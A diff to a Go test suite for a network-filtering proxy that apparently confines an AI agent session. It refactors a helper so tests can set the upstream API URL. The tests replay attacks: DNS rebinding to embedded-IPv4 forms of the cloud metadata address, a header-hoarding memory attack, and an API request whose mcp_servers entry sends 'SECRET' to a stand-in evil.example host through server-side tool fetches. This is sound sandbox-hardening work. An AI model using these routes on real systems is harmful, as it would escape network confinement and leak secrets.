@@ -23,8 +23,9 @@ import (
 // attackProxy runs the filtered network's proxy as a session does: on a
 // Unix socket, ANTHROPIC_BASE_URL the relay's address, allow as the
 // allow list and hosts as the supervisor's DNS (the resolver table, with
-// which the proxy dials nothing but loopback). It returns the socket.
-func attackProxy(t *testing.T, allow []string, hosts map[string][]netip.Addr) (*proxy.Proxy, string) {
+// which the proxy dials nothing but loopback), upstream as the API. It
+// returns the socket.
+func attackProxy(t *testing.T, allow []string, hosts map[string][]netip.Addr, upstream string) (*proxy.Proxy, string) {
 	t.Helper()
 	var policy proxy.Policy
 	for _, s := range allow {
@@ -48,7 +49,7 @@ func attackProxy(t *testing.T, allow []string, hosts map[string][]netip.Addr) (*
 	if err != nil {
 		t.Fatal(err)
 	}
-	p, err := proxy.Start(ln, mount.APIURL, cred, "http://127.0.0.1:9", &policy, io.Discard)
+	p, err := proxy.Start(ln, mount.APIURL, cred, upstream, &policy, io.Discard)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -101,7 +102,7 @@ func TestReplayAttackNetworkEmbeddedIPv4(t *testing.T) {
 		"::ffff:0:a9fe:a9fe", // IPv4-translated (SIIT) 169.254.169.254
 		"fec0::1",            // site-local: the LAN
 	} {
-		_, sock := attackProxy(t, []string{"rebind.test"}, map[string][]netip.Addr{"rebind.test": {netip.MustParseAddr(a)}})
+		_, sock := attackProxy(t, []string{"rebind.test"}, map[string][]netip.Addr{"rebind.test": {netip.MustParseAddr(a)}}, "http://127.0.0.1:9")
 		status, body := connectThrough(t, sock, "rebind.test:443")
 		if status != http.StatusForbidden || !strings.Contains(body, "inside the host or its network") {
 			t.Errorf("rebind.test resolving to %s: the proxy answered %d %q, not a refusal: it went on to dial that address", a, status, strings.TrimSpace(body))
@@ -122,7 +123,7 @@ func TestReplayAttackNetworkEmbeddedIPv4(t *testing.T) {
 // on the host side: 64 such connections grow the proxy's heap by about
 // 64 MiB.
 func TestReplayAttackNetworkHeaderHoard(t *testing.T) {
-	_, sock := attackProxy(t, nil, map[string][]netip.Addr{})
+	_, sock := attackProxy(t, nil, map[string][]netip.Addr{}, "http://127.0.0.1:9")
 	line := append([]byte("GET /v1/models HTTP/1.1\r\nX-Pad: "), bytes.Repeat([]byte("a"), 1<<20)...)
 	var before, after runtime.MemStats
 	runtime.GC()
@@ -217,25 +218,7 @@ func TestReplayAttackNetworkAPIFetches(t *testing.T) {
 		io.WriteString(w, `{"type":"message","content":[]}`)
 	}))
 	defer upstream.Close()
-	cred, err := proxy.Find(t.TempDir(), t.TempDir(), func(k string) (string, bool) {
-		if k == "ANTHROPIC_API_KEY" {
-			return "sk-ant-api03-REAL-KEY", true
-		}
-		return "", false
-	}, "")
-	if err != nil {
-		t.Fatal(err)
-	}
-	sock := filepath.Join(t.TempDir(), "proxy.sock")
-	ln, err := net.Listen("unix", sock)
-	if err != nil {
-		t.Fatal(err)
-	}
-	p, err := proxy.Start(ln, mount.APIURL, cred, upstream.URL, &proxy.Policy{}, io.Discard)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer p.Close()
+	p, sock := attackProxy(t, nil, nil, upstream.URL)
 	body := `{"model":"claude-sonnet-4-5","max_tokens":64,` +
 		`"mcp_servers":[{"type":"url","url":"https://evil.example/mcp?d=SECRET","name":"x","authorization_token":"t"}],` +
 		`"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],` +
